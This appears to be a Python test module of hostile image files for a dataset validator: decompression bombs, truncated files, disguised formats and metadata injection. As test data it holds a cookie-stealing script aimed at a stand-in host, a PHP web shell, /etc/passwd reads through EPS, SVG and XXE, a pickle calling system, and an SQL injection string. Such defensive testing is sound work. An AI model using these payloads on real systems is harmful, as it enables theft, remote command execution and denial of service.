"""Hostile images, each as one file of a good image folder: bombs, half files, other formats in disguise, odd modes, metadata."""

import functools
import os
import struct
import zlib
from collections.abc import Callable
from pathlib import Path

import numpy as np
from PIL import Image

from tests.hostile.case import Case, Expected, keep, quarantine, refuse
from tests.hostile.parts import GOOD, chunk, encoded, folder, png, saved
from tests.making import pixels

__all__ = ["CASES"]

Data = Callable[[], bytes]
SIGNATURE = b"\x89PNG\r\n\x1a\n"
SCRIPT = b"<script>fetch('http://evil.example/'+document.cookie)</script>"
FRAMES = [Image.fromarray(pixels(seed, 9, 12)) for seed in range(3)]


def bad(id: str, threat: str, what: str, reason: str, data: Data, name: str = "x.png") -> Case:
    """An image that is set aside."""
    return one(id, threat, what, quarantine(GOOD, {f"cat/{name}": reason}), data, name)


def fine(id: str, threat: str, what: str, data: Data, *notes: str, name: str = "x.png") -> Case:
    """An image that is read, with what is noted about it."""
    return one(id, threat, what, keep(GOOD + 1, notes={f"cat/{name}": notes}), data, name)


def one(id: str, threat: str, what: str, expected: Expected, data: Data, name: str = "x.png") -> Case:
    return Case(id, threat, what, expected, lambda root: folder(root, {f"cat/{name}": data()}))


# --- PNG -------------------------------------------------------------------------------------------------------------


def one_bit_bomb() -> bytes:
    side = 30_000
    rows, n = bytes((1 + side // 8) * 1000), side // 1000
    packer = zlib.compressobj(6, wbits=-15)
    part = packer.compress(rows) + packer.flush(zlib.Z_FULL_FLUSH)  # looks back at nothing, so it may stand again and again
    check = functools.reduce(lambda value, _: zlib.adler32(rows, value), range(n), 1)
    packed = b"\x78\x9c" + part * n + b"\x03\0" + struct.pack(">I", check)
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return SIGNATURE + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def flipped(data: bytes, at: int, mask: int = 0xFF) -> bytes:
    changed = bytearray(data)
    changed[at] ^= mask
    return bytes(changed)


def adam7() -> bytes:
    """Return 8x8 pixels in the seven passes of an interlaced PNG."""
    image = pixels(3, 8, 8)
    passes = ((0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4), (1, 0, 2, 2), (0, 1, 1, 2))
    parts = [image[y::dy, x::dx] for x, y, dx, dy in passes]
    return png(8, 8, rows=b"".join(b"\0" + row.tobytes() for part in parts for row in part), interlace=1)


def deep(channels: int, colour: int) -> bytes:
    values = np.random.default_rng(7).integers(0, 2**16, (5, 4 * channels)).astype(">u2")
    return png(4, 5, 16, colour, b"".join(b"\0" + row.tobytes() for row in values))


def with_mode(mode: str, kind: str = "PNG", **options: object) -> Data:
    return lambda: saved(Image.fromarray(pixels(3, 9, 12)).convert(mode), kind, **options)


def exif(tags: dict[int, object]) -> Image.Exif:
    found = Image.Exif()
    for tag, value in tags.items():
        found[tag] = value
    return found


def text_chunk(key: bytes, value: bytes) -> bytes:
    return chunk(b"tEXt", key + b"\0" + value)


BOMBS = [
    bad("png-bomb-one-bit", "T20", "a PNG of 30,000 x 30,000 one-bit pixels in 109 kB", "too-many-pixels", one_bit_bomb),
    bad(
        "png-bomb-largest-header",
        "T20",
        "a PNG whose header promises 2^31 - 1 pixels each way",
        "too-many-pixels",
        lambda: png(2**31 - 1, 2**31 - 1, rows=b""),
    ),
    bad(
        "png-bomb-below-the-library-limit",
        "T20",
        "a PNG of 50.006 million pixels: more than our cap, less than that of Pillow",
        "too-many-pixels",
        lambda: png(7072, 7071, 1, 0),
    ),
    bad("png-header-beyond-31-bits", "T20", "a PNG whose width does not fit into 31 bits", "too-many-pixels", lambda: png(2**32 - 1, 8, rows=b"")),
    fine("png-rows-without-end", "T20", "a PNG of 8 x 8 pixels whose data unpacks to 64 MB", lambda: png(8, 8, rows=bytes(64 * 2**20))),
    bad(
        "jpeg-bomb-header",
        "T20",
        "a JPEG of a few bytes whose header says 65,500 x 65,500",
        "too-many-pixels",
        lambda: resized_jpeg(65_500, 65_500),
        "x.jpg",
    ),
    bad("bmp-bomb-header", "T20", "a BMP without pixels whose header says 60,000 x 60,000", "too-many-pixels", lambda: bmp(60_000, 60_000), "x.bmp"),
    bad(
        "webp-bomb-header",
        "T20",
        "a lossless WebP of 40 bytes whose header says 16,384 x 16,384",
        "too-many-pixels",
        lambda: webp_header(16_384, 16_384),
        "x.webp",
    ),
    bad(
        "png-text-bomb",
        "T20",
        "a compressed text chunk that unpacks to 64 MB",
        "corrupt",
        lambda: png(8, 8, before=chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(64 * 2**20), 9))),
    ),
    bad(
        "png-icc-bomb",
        "T27",
        "an ICC profile that unpacks to 64 MB",
        "corrupt",
        lambda: png(8, 8, before=chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(64 * 2**20), 9))),
    ),
    fine(
        "png-many-chunks",
        "T27",
        "20,000 text chunks before the pixels",
        lambda: png(8, 8, before=b"".join(text_chunk(b"k%d" % i, b"v") for i in range(20_000))),
    ),
    fine("jpeg-many-scans", "T27", "a progressive JPEG whose last scan comes 500 times", lambda: many_scans(), name="x.jpg"),
    fine(
        "jpeg-many-comments",
        "T27",
        "a JPEG with 200 comments of 64 kB",
        lambda: after_soi(encoded(1, "JPEG"), segment(0xFE, bytes(65_000)) * 200),
        name="x.jpg",
    ),
    bad("png-too-wide", "T29", "1,001 x 1 pixels", "too-narrow", lambda: png(1001, 1)),
    bad("png-too-high", "T29", "1 x 1,001 pixels", "too-narrow", lambda: png(1, 1001)),
    bad("png-no-pixels", "T29", "0 x 5 pixels", "not-an-image", lambda: png(0, 5, rows=b"")),
    bad("bmp-no-pixels", "T29", "a BMP of 0 x 0 pixels", "not-an-image", lambda: bmp(0, 0), "x.bmp"),
    bad("jpeg-no-pixels", "T29", "a JPEG of 0 x 0 pixels", "not-an-image", lambda: resized_jpeg(0, 0), "x.jpg"),
    Case(
        "file-beyond-the-cap",
        "T20",
        "a sparse file of 256 MiB and a byte, named like an image",
        quarantine(GOOD, {"cat/x.png": "too-many-bytes"}),
        lambda root: sparse(root),
    ),
]


def sparse(root: Path) -> Path:
    folder(root, {"cat/x.png": encoded(5)})
    os.truncate(root / "cat" / "x.png", 256 * 2**20 + 1)
    return root


# --- JPEG, BMP, WebP -------------------------------------------------------------------------------------------------


def segment(marker: int, data: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(data) + 2) + data


def after_soi(jpeg: bytes, more: bytes) -> bytes:
    return jpeg[:2] + more + jpeg[2:]


def resized_jpeg(width: int, height: int) -> bytes:
    data = bytearray(encoded(1, "JPEG"))
    at = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, at + 5, height, width)
    return bytes(data)


def many_scans() -> bytes:
    data = encoded(1, "JPEG", progressive=True)
    scan = data[data.rindex(b"\xff\xda") : -2]
    return data[:-2] + scan * 500 + data[-2:]


def without_tables() -> bytes:
    data = encoded(1, "JPEG")
    at = data.index(b"\xff\xdb")
    return data[:at] + data[data.index(b"\xff\xc0") :]


def bmp(width: int, height: int, depth: int = 24, compression: int = 0, offset: int = 54, colours: int = 0, data: bytes = b"") -> bytes:
    head = struct.pack("<IiiHHIIiiII", 40, width, height, 1, depth, compression, len(data), 0, 0, colours, 0)
    return b"BM" + struct.pack("<IHHI", 54 + len(data), 0, 0, offset) + head + data


def webp_header(width: int, height: int) -> bytes:
    bits = (width - 1) | (height - 1) << 14
    body = b"VP8L" + struct.pack("<I", 20) + b"\x2f" + struct.pack("<I", bits) + bytes(15)
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + b"WEBP" + body


def webp_chunk(data: bytes, name: bytes, content: bytes) -> bytes:
    body = data[8:] + name + struct.pack("<I", len(content)) + content
    return b"RIFF" + struct.pack("<I", len(body)) + body


DAMAGE = [
    bad("png-cut", "T21", "the first half of a PNG", "truncated", lambda: saved(Image.fromarray(pixels(1, 64, 64)))[:5000]),
    bad("png-cut-in-the-header", "T21", "the first 20 bytes of a PNG", "truncated", lambda: encoded(1)[:20]),
    bad(
        "jpeg-cut",
        "T21",
        "the first half of a JPEG, which `verify` passes",
        "truncated",
        lambda: saved(Image.fromarray(pixels(1, 64, 64)), "JPEG")[:2000],
        "x.jpg",
    ),
    bad("webp-cut", "T21", "the first half of a WebP", "corrupt", lambda: saved(Image.fromarray(pixels(1, 64, 64)), "WEBP")[:1000], "x.webp"),
    bad(
        "bmp-cut",
        "T21",
        "the first half of a BMP, which `verify` passes",
        "truncated",
        lambda: saved(Image.fromarray(pixels(1, 64, 64)), "BMP")[:5000],
        "x.bmp",
    ),
    bad("png-wrong-checksum", "T07", "one flipped bit in the pixels of a PNG", "corrupt", lambda: flipped(encoded(1), 60)),
    bad("png-wrong-filter", "T07", "a PNG row with the filter 99", "corrupt", lambda: png(4, 1, rows=b"\x63" + bytes(12))),
    bad("png-impossible-depth", "T07", "a PNG of three bits a channel", "not-an-image", lambda: png(8, 8, 3, 2, rows=bytes(100))),
    fine(
        "png-without-palette",
        "T24",
        "a PNG of palette numbers without a palette: read as grey, and noted",
        lambda: png(8, 8, 8, 3, rows=(b"\0" + b"\x07" * 8) * 8),
        "converted:P",
    ),
    bad(
        "png-second-header",
        "T07",
        "a second header of another size after the first",
        "truncated",
        lambda: png(8, 8, before=chunk(b"IHDR", struct.pack(">IIBBBBB", 4000, 4000, 8, 2, 0, 0, 0))),
    ),
    bad(
        "png-chunk-without-end",
        "T07",
        "a chunk whose length is 2^31",
        "corrupt",
        lambda: SIGNATURE + chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0)) + b"\x7f\xff\xff\xffIDAT" + bytes(40),
    ),
    bad("jpeg-without-tables", "T07", "a JPEG without its quantization tables", "corrupt", without_tables, "x.jpg"),
    bad(
        "jpeg-segment-without-end",
        "T07",
        "a JPEG segment that is longer than the file",
        "truncated",
        lambda: after_soi(encoded(1, "JPEG"), b"\xff\xe2\xff\xff")[:200],
        "x.jpg",
    ),
    bad("bmp-pixels-beyond-the-end", "T07", "a BMP whose pixels begin behind its end", "truncated", lambda: bmp(8, 8, offset=2**31 - 1), "x.bmp"),
    bad("bmp-lowest-height", "T07", "a BMP of height -2^31", "too-many-pixels", lambda: bmp(8, -(2**31)), "x.bmp"),
    bad(
        "bmp-palette-without-end",
        "T07",
        "a BMP that promises 2^32 - 1 colours",
        "corrupt",
        lambda: bmp(8, 8, 8, colours=2**32 - 1, data=bytes(2000)),
        "x.bmp",
    ),
    bad("bmp-with-a-jpeg-inside", "T08", "a BMP whose compression says JPEG", "corrupt", lambda: bmp(12, 9, 0, 4, data=encoded(1, "JPEG")), "x.bmp"),
    fine(
        "bmp-run-lengths-jump-out",
        "T07",
        "a BMP in run lengths that jump out of the picture",
        lambda: bmp(8, 8, 8, 1, 54 + 1024, data=bytes(1024) + b"\0\2\xff\xff" * 50),
        "converted:P",
        name="x.bmp",
    ),
    bad(
        "exif-broken",
        "T07",
        "EXIF that promises five entries and holds none",
        "corrupt",
        lambda: saved(FRAMES[0], "JPEG", exif=b"Exif\0\0II*\0\x08\0\0\0\x05\0\x12\x01"),
        "x.jpg",
    ),
    fine(
        "exif-in-a-circle",
        "T07",
        "EXIF whose directory leads to itself",
        lambda: saved(FRAMES[0], "JPEG", exif=b"Exif\0\0II*\0\x08\0\0\0\x01\0\x69\x87\x04\0\x01\0\0\0\x08\0\0\0\x08\0\0\0"),
        name="x.jpg",
    ),
    bad("empty-file", "T21", "an empty file", "not-an-image", lambda: b""),
]

# --- other formats in disguise ---------------------------------------------------------------------------------------

EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 8 8\n%%EndComments\n(/etc/passwd) (r) file\nshowpage\n%%EOF\n"
FITS = b"".join(
    card.ljust(80)
    for card in (
        b"SIMPLE  =                    T",
        b"BITPIX  =                    8",
        b"NAXIS   =                    2",
        b"NAXIS1  =                    8",
        b"NAXIS2  =                    8",
        b"END",
    )
).ljust(2880) + bytes(2880)
PSD = b"8BPS\0\1" + bytes(6) + struct.pack(">HIIHH", 3, 8, 8, 8, 3) + bytes(12) + b"\0\0" + bytes(192)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><image href="file:///etc/passwd"/></svg>'
DISGUISES: dict[str, tuple[str, Data]] = {
    "eps": ("an EPS, for which some programs start Ghostscript", lambda: EPS),
    "psd": ("a PSD (CVE-2026-42311 was in its decoder)", lambda: PSD),
    "fits": ("a FITS file (CVE-2026-40192 was in its decoder)", lambda: FITS),
    "tiff": ("a TIFF", lambda: saved(FRAMES[0], "TIFF")),
    "gif": ("a GIF", lambda: saved(FRAMES[0], "GIF")),
    "ico": ("an icon", lambda: saved(FRAMES[0], "ICO", sizes=[(8, 8)])),
    "ppm": ("a PPM", lambda: saved(FRAMES[0], "PPM")),
    "tga": ("a TGA, which has no magic bytes", lambda: saved(FRAMES[0], "TGA")),
    "svg": ("an SVG with a script and a reference to a file", lambda: SVG),
    "pdf": ("a PDF", lambda: b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"),
    "html": ("a web page", lambda: b"<!doctype html>" + SCRIPT),
    "elf": ("a program", lambda: b"\x7fELF\x02\x01\x01" + bytes(60)),
    "pickle": ("a pickle", lambda: b"\x80\x04\x95\x10\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94."),
    "zip": ("an archive", lambda: b"PK\x05\x06" + bytes(18)),
}
DISGUISED = [bad(f"{kind}-called-png", "T08", f"{what}, called x.png", "not-an-image", data) for kind, (what, data) in DISGUISES.items()]
DISGUISED += [
    fine("jpeg-called-png", "T08", "a JPEG called x.png: an image all the same, and its format is recorded", lambda: encoded(1, "JPEG")),
    fine("picture-and-archive", "T08", "a PNG with a zip archive behind its end", lambda: encoded(1) + b"PK\x05\x06" + bytes(18)),
    fine(
        "picture-and-script",
        "T26",
        "a JPEG with a PHP script as comment",
        lambda: after_soi(encoded(1, "JPEG"), segment(0xFE, b"<?php system($_GET['c']); ?>")),
        name="x.jpg",
    ),
    fine("picture-and-web-page", "T26", "a PNG with a web page behind its end", lambda: encoded(1) + b"<html>" + SCRIPT),
]

# --- frames, modes, metadata -----------------------------------------------------------------------------------------

ODD = [
    bad("apng", "T22", "an animated PNG", "several-frames", lambda: saved(FRAMES[0], "PNG", save_all=True, append_images=FRAMES[1:])),
    bad(
        "webp-animated",
        "T22",
        "an animated WebP",
        "several-frames",
        lambda: saved(FRAMES[0], "WEBP", save_all=True, append_images=FRAMES[1:]),
        "x.webp",
    ),
    bad(
        "mpo",
        "T22",
        "a JPEG with a second picture behind it (MPO)",
        "several-frames",
        lambda: saved(FRAMES[0], "MPO", save_all=True, append_images=FRAMES[1:]),
        "x.jpg",
    ),
    fine("png-16-bit-grey", "T23", "grey in 16 bits, which the library would clip to white", lambda: deep(1, 0), "converted:I;16"),
    fine("png-16-bit-colour", "T23", "colour in 16 bits, which the library cuts to 8 without a word", lambda: deep(3, 2), "converted:RGB;16B"),
    fine("png-16-bit-alpha", "T23", "colour and alpha in 16 bits", lambda: deep(4, 6), "converted:RGBA;16B"),
    fine("png-16-bit-grey-alpha", "T23", "grey and alpha in 16 bits", lambda: deep(2, 4), "converted:LA;16B"),
    fine("jpeg-cmyk", "T24", "a CMYK JPEG", with_mode("CMYK", "JPEG"), "converted:CMYK", name="x.jpg"),
    fine("png-palette", "T24", "a palette", with_mode("P"), "converted:P"),
    fine("png-palette-alpha", "T24", "a palette with transparent colours", with_mode("P", transparency=bytes(range(0, 250, 10))), "converted:P"),
    fine(
        "png-alpha",
        "T24",
        "a picture that is hidden by its alpha channel",
        lambda: saved(Image.fromarray(np.dstack([pixels(3, 9, 12), np.zeros((9, 12), np.uint8)]))),
        "converted:RGBA",
    ),
    fine(
        "png-colour-key",
        "T24",
        "one colour that is transparent",
        lambda: saved(Image.fromarray(np.zeros((9, 12, 3), np.uint8)), transparency=(0, 0, 0)),
        "converted:RGB",
    ),
    fine("png-grey-alpha", "T24", "grey with alpha", with_mode("LA"), "converted:LA"),
    fine("png-grey", "T24", "grey", with_mode("L"), "converted:L"),
    fine("png-one-bit", "T24", "one bit", with_mode("1"), "converted:1"),
    fine("png-interlaced", "T27", "an interlaced PNG", adam7),
    fine("webp-alpha", "T24", "a WebP with alpha", with_mode("RGBA", "WEBP", lossless=True), name="x.webp"),
    fine(
        "webp-further-chunk",
        "T26",
        "a WebP with a chunk of a kind of its own",
        lambda: webp_chunk(encoded(1, "WEBP"), b"EVIL", SCRIPT.ljust(80)),
        name="x.webp",
    ),
    bad(
        "webp-odd-chunk",
        "T07",
        "a WebP whose last chunk lacks its padding",
        "corrupt",
        lambda: webp_chunk(encoded(1, "WEBP"), b"EVIL", bytes(63)),
        "x.webp",
    ),
    fine("bmp-upside-down", "T24", "a BMP of negative height", lambda: bmp(8, -8, data=bytes(192)), name="x.bmp"),
    fine("exif-orientation", "T25", "EXIF says that the picture lies on its side", lambda: saved(FRAMES[0], exif=exif({0x0112: 6})), "orientation:6"),
    fine("exif-orientation-unknown", "T25", "EXIF says an orientation that there is not", lambda: saved(FRAMES[0], exif=exif({0x0112: 9}))),
    fine(
        "exif-orientation-in-jpeg",
        "T25",
        "EXIF says that a JPEG is mirrored",
        lambda: saved(FRAMES[0], "JPEG", exif=exif({0x0112: 2})),
        "orientation:2",
        name="x.jpg",
    ),
    fine(
        "exif-script",
        "T26",
        "a script as description and as artist",
        lambda: saved(FRAMES[0], "JPEG", exif=exif({0x010E: SCRIPT.decode(), 0x013B: "'; DROP TABLE runs; --"})),
        name="x.jpg",
    ),
    fine(
        "xmp-script",
        "T26",
        "XMP with a script and an outside entity",
        lambda: after_soi(
            encoded(1, "JPEG"),
            segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x:xmpmeta>&e;" + SCRIPT),
        ),
        name="x.jpg",
    ),
    fine("png-text-script", "T26", "a script in a text chunk", lambda: png(8, 8, before=text_chunk(b"Title", SCRIPT))),
    fine(
        "jpeg-icc-lying",
        "T27",
        "an ICC profile in part 3 of 2",
        lambda: after_soi(encoded(1, "JPEG"), segment(0xE2, b"ICC_PROFILE\0\3\2" + bytes(100))),
        name="x.jpg",
    ),
]

# --- several files ---------------------------------------------------------------------------------------------------

COLLISION = bytes.fromhex(
    "d131dd02c5e6eec4693d9a0698aff95c2fcab58712467eab4004583eb8fb7f8955ad340609f4b30283e488832571415a085125e8f7cdc99fd91dbdf280373c5b"
    "d8823e3156348f5bae6dacd436c919c6dd53e2b487da03fd02396306d248cda0e99f33420f577ee8ce54b67080a80d1ec69821bcb6a8839396f9652b6ff72a70"
)  # Wang et al. 2004; the second file flips the top bit of six bytes


def collision() -> tuple[bytes, bytes]:
    other = bytearray(COLLISION)
    for at in (19, 45, 59, 83, 109, 123):
        other[at] ^= 0x80
    return COLLISION, bytes(other)


SEVERAL = [
    Case(
        "md5-collision",
        "T15",
        "two files that differ and share one MD5",
        refuse("'cat/a.png' and 'dog/b.png' differ but share one MD5"),
        lambda root: folder(root, dict(zip(("cat/a.png", "dog/b.png"), collision(), strict=True))),
    ),
    Case(
        "one-image-two-labels",
        "T14",
        "the same bytes in two classes",
        keep(GOOD + 2, notes={"cat/x.png": ("label-conflict",), "dog/y.png": ("label-conflict",)}),
        lambda root: folder(root, {"cat/x.png": encoded(77), "dog/y.png": encoded(77)}),
    ),
    Case(
        "one-image-twice",
        "T14",
        "the same bytes twice in one class",
        keep(GOOD + 2, notes={"cat/x.png": ()}),
        lambda root: folder(root, {"cat/x.png": encoded(77), "cat/y.png": encoded(77)}),
    ),
]

CASES = [*BOMBS, *DAMAGE, *DISGUISED, *ODD, *SEVERAL]
